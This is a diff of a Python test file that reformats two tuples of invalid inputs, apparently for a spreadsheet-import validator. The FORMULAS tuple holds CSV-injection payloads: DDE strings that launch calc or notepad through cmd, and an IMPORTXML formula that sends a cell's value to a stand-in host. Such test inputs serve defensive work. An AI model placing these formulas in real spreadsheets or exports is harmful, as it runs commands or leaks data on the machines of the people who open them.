@@ -59,11 +59,22 @@ FORMULAS = (
     "-2+3+cmd|' /C calc'!A0",
     "+cmd|' /C notepad'!A0",
     "@x",
-    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
 )
 
-WRONG_DATES = ("23/11/2026", "2026-11-31", "tomorrow", "11/23/2026", "2026-13-01", "2026/11/23", "23.11.2026",
-               "Nov 23 2026", "2026-11-23 25:00", "--", "=TODAY()")
+WRONG_DATES = (
+    "23/11/2026",
+    "2026-11-31",
+    "tomorrow",
+    "11/23/2026",
+    "2026-13-01",
+    "2026/11/23",
+    "23.11.2026",
+    "Nov 23 2026",
+    "2026-11-23 25:00",
+    "--",
+    "=TODAY()",
+)
 
 
 def check_row_errors(error: RowErrors, *, max_row: int | None = None) -> None:
